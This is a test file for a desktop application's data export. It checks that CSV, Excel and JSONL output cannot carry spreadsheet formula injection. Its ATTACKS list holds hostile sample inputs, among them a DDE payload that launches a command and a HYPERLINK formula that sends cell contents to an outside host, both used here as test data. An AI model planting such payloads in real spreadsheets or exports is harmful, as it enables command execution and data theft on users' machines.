"""Whatever a directory says, no spreadsheet computes it: in every format and on every way out."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterable, Iterator
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sase_desktop.services.by_hand.table_file import read_table
from sase_desktop.services.export import COLUMNS, export_rows, safe_cell

STARTS = "=+-@\t\r\n＝＋－＠"
ATTACKS = [
    *map("".join, product(STARTS, ("1+1", "cmd|' /C calc'!A0", "SUM(A1)"))),
    '=HYPERLINK("http://x.example/?"&A1,"ok")', "\t=1+1", "\r\n=1+1", "=", "+", "-", "@", "=1",
    "－１", "name;=1+1", "name\t=1+1", 'name";=1+1', "name ; @SUM(A1)", "a\n=1+1",
    "a\r@x", "-1+1", "+8613800000000+1",
]  # fmt: skip
HARMLESS = ["-5", "+8613800000000", "张三", "a=b", "a-b", "x@example.com", "", "'quoted"]

KINDS = list(COLUMNS)


def rows_of(kind: str, texts: Iterable[str] = (*ATTACKS, *HARMLESS)) -> Iterator[dict[str, Any]]:
    """The attack in every column at once, in lists and in documents."""
    for text in texts:
        row: dict[str, Any] = dict.fromkeys(COLUMNS[kind], text)
        for column in ("third_party", "before", "after", "extended"):
            if column in row:
                row[column] = {text: text, "username": text}
        if "departments" in row:
            row["departments"] = [text, text]
        yield row


def computes(cell: str) -> bool:
    """As spreadsheets decide it, after the file was split at whatever they take for separators."""
    if re.fullmatch(r"[+-]?\d+", cell):
        return False
    return cell.startswith(tuple(STARTS))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_text_file_is_a_formula(tmp_path: Path, kind: str, separator: str) -> None:
    path = tmp_path / "out.csv"
    count = export_rows(path, COLUMNS[kind], rows_of(kind, ATTACKS))
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert len(rows) > count
    for row in rows:
        for cell in row:
            assert not computes(cell), (separator, cell)


@pytest.mark.parametrize("text", [one for one in ATTACKS if one == one.strip()])
def test_an_import_reads_what_was_exported(tmp_path: Path, text: str) -> None:
    path = tmp_path / "out.csv"
    export_rows(path, ("id", "name"), [{"id": "1", "name": text}])
    assert read_table(path)[1] == (2, ["1", text])


@pytest.mark.parametrize("kind", KINDS)
def test_no_cell_of_a_workbook_is_a_formula(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "out.xlsx"
    export_rows(path, COLUMNS[kind], rows_of(kind))
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert b"<f>" not in part and b"<f " not in part, name
            assert b"externalLink" not in part and b"<hyperlink" not in part, name
    book = openpyxl.load_workbook(path)
    assert [one.title for one in book.worksheets] == ["Sheet1"]
    for row in book.worksheets[0].iter_rows():
        assert {cell.data_type for cell in row} <= {"s", "n", "b", "d", "inlineStr"}


@pytest.mark.parametrize("kind", KINDS)
def test_lines_for_programs_are_exact(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "out.jsonl"
    export_rows(path, COLUMNS[kind], rows_of(kind))
    lines = path.read_bytes().split(b"\n")[:-1]
    assert [json.loads(one) for one in lines] == list(rows_of(kind))


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=STARTS + "a1;,\"' |!\x00", max_size=8))
def test_any_text_is_neutralised_and_stays_readable(text: str) -> None:
    cell = safe_cell(text)
    for piece in re.split(r"[;\t\r\n]", cell):
        assert not computes(piece), cell
    assert cell.replace("'", "").replace("␀", "") == text.replace("'", "").replace("\x00", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
